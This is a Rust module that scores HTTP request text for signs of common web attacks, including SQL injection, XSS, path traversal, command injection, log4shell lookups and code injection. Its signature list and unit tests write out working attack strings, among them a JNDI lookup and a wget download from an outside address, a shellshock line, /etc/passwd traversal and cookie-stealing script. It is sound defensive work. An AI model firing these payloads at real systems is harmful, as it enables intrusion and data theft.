//! Marks of the commonest attacks on web applications, each with a score. This is evidence for the model and one rule,
//! not an engine of signatures: what is listed has hardly any other use in a request, and one strong mark or two weak ones
//! are enough.
//!
//! Text is compared once decoded (percent, plus), without case, and with runs of blanks and SQL comments as one blank.

use aho_corasick::{AhoCorasick, MatchKind};
use std::sync::LazyLock;

/// What an attack tries.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// SQL injection.
    Sql,
    /// Script injection (XSS).
    Script,
    /// Files outside of the web root.
    Traversal,
    /// Commands of a shell.
    Command,
    /// Lookups of a logging library (log4shell).
    Lookup,
    /// Code of the server's language, or its expressions.
    Code,
}

impl Kind {
    /// What people read.
    pub fn name(self) -> &'static str {
        match self {
            Kind::Sql => "SQL injection",
            Kind::Script => "script injection",
            Kind::Traversal => "path traversal",
            Kind::Command => "command injection",
            Kind::Lookup => "JNDI lookup",
            Kind::Code => "code injection",
        }
    }
}

use Kind::{Code, Command, Lookup, Script, Sql, Traversal};

/// Marks: text in lower case, what it tries, and the score: 1 is an attack on its own.
const MARKS: [(&str, Kind, f32); 60] = [
    ("${jndi:", Lookup, 2.0),
    ("jndi:ldap:", Lookup, 1.0),
    ("jndi:rmi:", Lookup, 1.0),
    ("jndi:dns:", Lookup, 1.0),
    ("${${", Lookup, 1.0),
    ("${lower:", Lookup, 1.0),
    ("${upper:", Lookup, 1.0),
    ("${::-", Lookup, 1.0),
    ("union select", Sql, 1.0),
    ("union all select", Sql, 1.0),
    ("select * from", Sql, 1.0),
    ("from information_schema", Sql, 1.0),
    ("xp_cmdshell", Sql, 1.0),
    ("into outfile", Sql, 0.7),
    ("load_file(", Sql, 0.7),
    ("@@version", Sql, 0.7),
    ("substring(", Sql, 0.4),
    ("benchmark(", Sql, 0.5),
    ("waitfor delay", Sql, 1.0),
    ("sleep(", Sql, 0.5),
    ("order by ", Sql, 0.3),
    ("group_concat(", Sql, 0.7),
    ("extractvalue(", Sql, 0.7),
    ("drop table", Sql, 0.8),
    ("' or '", Sql, 0.8),
    ("'--", Sql, 0.5),
    ("';", Sql, 0.3),
    ("<script", Script, 0.7),
    ("</script", Script, 0.4),
    ("alert(", Script, 0.4),
    ("document.cookie", Script, 0.6),
    ("onerror=", Script, 0.6),
    ("onload=", Script, 0.4),
    ("javascript:", Script, 0.4),
    ("../../", Traversal, 0.7),
    ("..\\..\\", Traversal, 0.7),
    ("..%2f", Traversal, 0.7),
    ("%2e%2e", Traversal, 0.7),
    ("/etc/passwd", Traversal, 0.8),
    ("/etc/shadow", Traversal, 0.9),
    ("/proc/self/", Traversal, 0.7),
    ("win.ini", Traversal, 0.5),
    ("boot.ini", Traversal, 0.5),
    (";wget ", Command, 1.0),
    ("wget http", Command, 0.6),
    ("curl http", Command, 0.6),
    ("|sh", Command, 0.3),
    (";cat ", Command, 0.6),
    ("/bin/sh", Command, 0.7),
    ("/bin/bash", Command, 0.7),
    ("cmd.exe", Command, 0.7),
    ("cmd=", Command, 0.3),
    ("() {", Command, 0.8),
    ("chmod 777", Command, 0.8),
    ("<?php", Code, 0.8),
    ("php://input", Code, 1.0),
    ("allow_url_include", Code, 1.0),
    ("base64_decode(", Code, 0.7),
    ("class.module.classloader", Code, 1.0),
    ("%{(#", Code, 1.0),
];

/// The score of an application's SQL in which two constants are compared, as `and 1=0`: the answer tells whether the
/// text reaches the database.
const CONSTANTS: f32 = 1.0;
/// Bytes of a part that are looked at.
const LOOKED_AT: usize = 2048;
/// A body may hold anything: text about attacks too.
const BODY: f32 = 0.7;

static FINDER: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    let texts = MARKS.iter().map(|(text, ..)| text);
    // Every mark is looked for, whatever else begins at the same place. These patterns build; there is a test.
    AhoCorasick::builder().ascii_case_insensitive(true).match_kind(MatchKind::Standard).build(texts).ok()
});

/// Marks found.
#[derive(Clone, Copy, Debug, Default, PartialEq)]
pub struct Marks {
    /// Sum of the scores.
    pub score: f32,
    /// What the most telling of them tries.
    pub kind: Option<Kind>,
}

/// Where text stands in a request.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Place {
    /// The target or the headers.
    Head,
    /// The body.
    Body,
}

/// Looks for marks in a part of a request.
pub fn marks(text: &[u8], place: Place) -> Marks {
    let mut buffer = [0; LOOKED_AT];
    let text = plain(text, &mut buffer);
    let mut found = [false; MARKS.len()];
    if let Some(finder) = FINDER.as_ref() {
        finder.find_overlapping_iter(text).for_each(|hit| found[hit.pattern().as_usize()] = true);
    }
    let share = if place == Place::Body { BODY } else { 1.0 };
    let hits =
        MARKS.iter().zip(found).filter(|(_, found)| *found).map(|((_, kind, score), _)| (*kind, *score));
    let constants = compares_constants(text).then_some((Sql, CONSTANTS));
    let mut marks = Marks::default();
    let mut most = 0.0;
    for (kind, score) in hits.chain(constants) {
        marks.score += score * share;
        if score > most {
            (most, marks.kind) = (score, Some(kind));
        }
    }
    marks
}

impl Marks {
    /// Both together.
    pub fn with(self, other: Marks) -> Marks {
        let kind = if other.score > self.score { other.kind } else { self.kind };
        Marks { score: self.score + other.score, kind: kind.or(self.kind).or(other.kind) }
    }
}

/// Decodes once, and makes one blank of blanks, control characters and SQL comments.
fn plain<'a>(text: &[u8], into: &'a mut [u8; LOOKED_AT]) -> &'a [u8] {
    let (mut at, mut len) = (0, 0);
    while let (Some(&byte), true) = (text.get(at), len < LOOKED_AT) {
        let (decoded, taken) = match byte {
            b'%' => match text.get(at + 1..at + 3).and_then(hexadecimal) {
                Some(decoded) => (decoded, 3),
                None => (byte, 1),
            },
            b'+' => (b' ', 1),
            b'/' if text[at..].starts_with(b"/**/") => (b' ', 4),
            _ => (byte, 1),
        };
        at += taken;
        let decoded = if decoded < b' ' { b' ' } else { decoded };
        if decoded == b' ' && len > 0 && into[len - 1] == b' ' {
            continue;
        }
        into[len] = decoded;
        len += 1;
    }
    &into[..len]
}

fn hexadecimal(digits: &[u8]) -> Option<u8> {
    let digit = |byte: u8| char::from(byte).to_digit(16);
    Some((digit(digits[0])? << 4 | digit(digits[1])?) as u8)
}

/// Whether `and` or `or` is followed by a comparison of two constants.
fn compares_constants(text: &[u8]) -> bool {
    let words = text.windows(4).enumerate().filter(|(_, four)| {
        let word = four[..3].eq_ignore_ascii_case(b"and") || four[..2].eq_ignore_ascii_case(b"or");
        word && four.contains(&b' ')
    });
    words.filter(|(at, _)| *at > 0 && b" '\")".contains(&text[at - 1])).any(|(at, four)| {
        let after = at + if four[..2].eq_ignore_ascii_case(b"or") { 2 } else { 3 };
        let rest = text[after..].trim_ascii_start();
        let constant = |text: &[u8]| {
            let quoted = text.iter().take_while(|byte| b"'\"(".contains(byte)).count();
            let digits = text[quoted..].iter().take_while(|byte| byte.is_ascii_digit()).count();
            let letters = text[quoted..].iter().take_while(|byte| byte.is_ascii_alphanumeric()).count();
            let length = if quoted > 0 { letters } else { digits };
            let closing = text[quoted + length..].iter().take_while(|byte| b"'\")".contains(byte)).count();
            (length > 0).then_some(quoted + length + closing)
        };
        let Some(left) = constant(rest) else { return false };
        let sign = rest[left..].trim_ascii_start();
        let Some((b'=' | b'<' | b'>', right)) = sign.split_first().map(|(sign, right)| (*sign, right)) else {
            return false;
        };
        constant(right.trim_ascii_start()).is_some()
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(text: &str, kind: Option<Kind>) {
        let found = marks(text.as_bytes(), Place::Head);
        assert_eq!(found.score >= 1.0, kind.is_some(), "{text}: {found:?}");
        assert!(kind.is_none() || found.kind == kind, "{text}: {found:?}");
    }

    #[test]
    fn common_attacks_are_marked() {
        assert!(FINDER.is_some());
        check("/?x=${jndi:ldap://198.51.100.1/a}", Some(Lookup));
        check("/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.1%2Fa%7D", Some(Lookup));
        check("/?x=${${lower:j}ndi:${lower:l}dap://x}", Some(Lookup));
        check("/p.php?id=-1+UnIoN/**/SeLeCt+1,2,3--", Some(Sql));
        check("/p.php?id=1%20and%201=0", Some(Sql));
        check("/p.php?id=1' or '1'='1", Some(Sql));
        check("/p.php?id=1')%20OR%20('a'='a", Some(Sql));
        check("/p.php?id=1 and substring(@@version,1,1)=5", Some(Sql));
        check("/?q=<script>alert(1)</script>", Some(Script));
        check("/?q=%3Cimg%20src=x%20onerror=alert(document.cookie)%3E", Some(Script));
        check("/a?file=../../../../etc/passwd", Some(Traversal));
        check("/a?file=%2e%2e%2f%2e%2e%2fetc%2fpasswd", Some(Traversal));
        check("/cgi-bin/x?h=1;wget http://198.51.100.1/x", Some(Command));
        check("() { :;}; /bin/bash -c id", Some(Command));
        check("/?class.module.classLoader.resources=1", Some(Code));
    }

    #[test]
    fn ordinary_requests_are_not() {
        for text in [
            "/",
            "/index.php?id=12&order=asc",
            "/search?q=select+a+gift+from+our+shop",
            "/wiki/Union_(set_theory)",
            "/search?q=black+and+white+or+2+of+them",
            "/a/../b.css",
            "/?redirect=https%3A%2F%2Fexample.com%2Fx%3Fa%3D1%26b%3D2",
            "/api?filter=a eq 1 and b=2",
            "/?cmd=list",
            "/shop?q=fish+and+chips&price=1",
            "/order?by=1&or=2",
            "/?q=O'Brien",
            "/?band=3&for 5=5",
            "",
        ] {
            check(text, None);
        }
    }

    #[test]
    fn a_body_counts_less_and_parts_add_up() {
        let text = b"how a union select works";
        assert!(marks(text, Place::Body).score < 1.0 && marks(text, Place::Head).score >= 1.0);
        let both = marks(b"<script", Place::Head).with(marks(b"cmd=", Place::Head));
        assert!(both.kind == Some(Script) && (both.score - 1.0).abs() < 1e-6);
    }
}
